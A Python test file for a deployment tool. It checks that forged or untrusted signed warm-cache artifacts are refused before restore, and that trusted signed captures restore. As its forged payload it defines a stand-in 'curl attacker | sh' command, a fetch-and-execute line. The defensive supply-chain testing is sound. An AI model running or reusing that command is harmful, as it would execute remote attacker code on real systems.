"""Signed warm caches on the real engine and registry (issue 35): with a trust policy in the
hosts folder, `deploy --apply` restores only an artifact that a key trusted for warm caches of
the host's GPU kind signed. A self-consistent forged artifact (files.json and every sha256
right, a file of the attacker's choice), unsigned or signed by a key the policy does not name,
is refused before anything is written into the volume; a signed capture of a key trusted only
for another GPU kind is refused; the same capture restores once the policy names its key.

The hosts are test_warm.py's (a few lines of Python that compile a "kernel" at a cold start);
the pins give no GPU, so their GPU kind is `cpu`.
"""

from __future__ import annotations

import hashlib
import json
from collections.abc import Callable, Iterator
from pathlib import Path
from typing import Any

import pytest
from cryptography.hazmat.primitives import serialization
from securesystemslib.dsse import Envelope as SslibEnvelope
from securesystemslib.signer import SSlibKey

from builder.evidence.keys import generate_key_pair, load_signing_key
from builder.evidence.oci import ArtifactStore
from builder.hosts.pins import Pin
from builder.hosts.remote import connect
from builder.hosts.warm_target import host_facts, target_of
from builder.knowledge.cache_volume import cache_volume
from builder.warm import archive, artifact, signed
from builder.warm.lifecycle import host_key
from builder.warm.volume import open_volume
from tests.engine.test_warm import _kernel, _serve, _tar_of, hosts, served_image
from tests.support.signed_evidence import attach_evidence

pytestmark = pytest.mark.engine
__all__ = ["hosts", "served_image"]  # test_warm's fixtures, used here by name

EVIL = b"import os; os.system('curl attacker | sh')\n"
H200 = "NVIDIA H200"


@pytest.fixture
def keyring(workspace: Path, served_image: str) -> Iterator[Callable[[dict[str, list[str]]], Path]]:
    """Keys in the hosts folder, and a trust policy naming them for warm caches per GPU kind
    (removed afterwards: the workspace is the whole session's). The image's evidence is
    signed by ops, the policy's build key: deploy --apply verifies it first (evidence_gate)."""
    folder = workspace / "hosts"
    keys = folder / "test-keys"
    for name in ("ops", "stranger"):
        if not (keys / f"{name}.key").exists():
            generate_key_pair(keys, name)
    policy = folder / "trust.yaml"
    attach_evidence(served_image, "warm-test", "0" * 64, keys / "ops.key")

    def trust(warm: dict[str, list[str]]) -> Path:
        document = {  # the stranger's key is in no policy
            "version": 1,
            "keys": {"ops": "test-keys/ops.pub"},
            "purposes": {"build": ["ops"], "warm": warm},
        }
        policy.write_text(json.dumps(document))  # JSON is YAML
        return keys

    yield trust
    policy.unlink(missing_ok=True)


def _forge(pin: Pin, tmp_path: Path, signer_key: Path | None) -> None:
    """What an attacker with push access makes: an artifact of the host's exact key whose
    files.json lists the tar's file with its true sha256 and size."""
    engine = connect(pin)
    target = target_of(pin)
    assert target is not None
    with open_volume(engine, target.volume, cache_volume()) as access:
        key = host_key(target, host_facts(pin, engine, None), access)
    tar = tmp_path / f"forged-{signer_key.stem if signer_key else 'unsigned'}.tar"
    _tar_of(tar, {"triton/grp0/kernel.cubin": EVIL})
    listed = archive.CapturedFile(
        "triton/grp0/kernel.cubin", len(EVIL), hashlib.sha256(EVIL).hexdigest(), 0o644, 0, "triton"
    )
    envelope = None
    if signer_key is not None:
        envelope = signed.envelope(key, [listed], tar, "gpu-1", load_signing_key(signer_key))
    artifact.push(ArtifactStore.of_image(pin.image), key, [listed], tar, "gpu-1", envelope)


def test_a_forged_warm_cache_is_refused_with_nothing_written(
    hosts: Callable[..., tuple[Pin, int]],
    cli_process: Callable[..., Any],
    keyring: Callable[[dict[str, list[str]]], Path],
    api: Any,
    tmp_path: Path,
) -> None:
    keys = keyring({"cpu": ["ops"]})
    host, port = hosts("trust-forged", env={"FORGED": "1"})  # a key no other artifact has
    _forge(host, tmp_path, None)
    _forge(host, tmp_path, keys / "stranger.key")

    refused = cli_process("deploy", host.host, "--apply", "--require-warm", check=False)
    assert refused.returncode == 2, refused.stdout + refused.stderr
    assert "every artifact of its key was refused" in refused.stderr
    assert "unsigned [no key]" in refused.stderr
    assert "unknown key (not in the trust policy)" in refused.stderr
    engine = connect(host)
    target = target_of(host)
    assert target is not None
    with open_volume(engine, target.volume, cache_volume()) as access:
        assert access.listing() == {}  # nothing of either artifact in live/
        assert not any(name.startswith(".incoming-") for name in access.listing("."))

    said = _serve(cli_process, host, port)  # without --require-warm: a cold start
    assert "every warm cache of this key was refused: a cold start" in said, said
    kernel, _ = _kernel(api, host)
    assert kernel != hashlib.md5(EVIL).hexdigest().encode()  # the server compiled its own


def test_a_signed_capture_restores_only_where_its_key_is_trusted_for_the_gpu_kind(
    hosts: Callable[..., tuple[Pin, int]],
    cli_process: Callable[..., Any],
    keyring: Callable[[dict[str, list[str]]], Path],
    api: Any,
) -> None:
    keys = keyring({H200: ["ops"]})  # trusted for another GPU kind only
    source, source_port = hosts("trust-source", env={"SIGNED": "1"})
    _serve(cli_process, source, source_port)
    captured = cli_process(
        "cache", "capture", source.host, env={"SM120_STACKS_SIGNING_KEY": str(keys / "ops.key")}
    )
    assert "signed by key" in captured.stdout, captured.stdout
    # Its key matches the host's, and the policy trusts ops for H200 only: `cache list` says
    # what deploy --apply would do (issue 43: it used to print `match`).
    listed = cli_process("cache", "list", source.host).stdout
    assert ", signed: refused by the trust policy (" in listed, listed
    assert "key not trusted for warm" in listed and ": match" not in listed
    assert (keys / "ops.key").read_text().splitlines()[1] not in captured.stdout + captured.stderr

    # The envelope in the registry verifies with securesystemslib and the public key alone.
    store = ArtifactStore.of_image(source.image)
    found = artifact.find(store, source.image.rpartition("@")[2])
    envelope_layer = next(f.envelope for f in found if f.envelope is not None)
    public = serialization.load_pem_public_key((keys / "ops.pub").read_bytes())
    key_id = load_signing_key(keys / "ops.key").key_id
    sslib_key = SSlibKey.from_crypto(public, keyid=key_id)  # type: ignore[arg-type]
    envelope = SslibEnvelope.from_dict(json.loads(store.blob(envelope_layer)))
    assert key_id in envelope.verify([sslib_key], 1)

    target, target_port = hosts("trust-target", env={"SIGNED": "1"})  # the source's key
    refused = cli_process("deploy", target.host, "--apply", "--require-warm", check=False)
    assert refused.returncode == 2, refused.stdout + refused.stderr
    assert f"key not trusted for warm on cpu [key {key_id[:16]} (ops)]" in refused.stderr

    keyring({"cpu": ["ops"], H200: ["ops"]})
    said = _serve(cli_process, target, target_port, "--require-warm")
    assert "restored warm cache sha256:" in said, said
    assert _kernel(api, target) == _kernel(api, source)
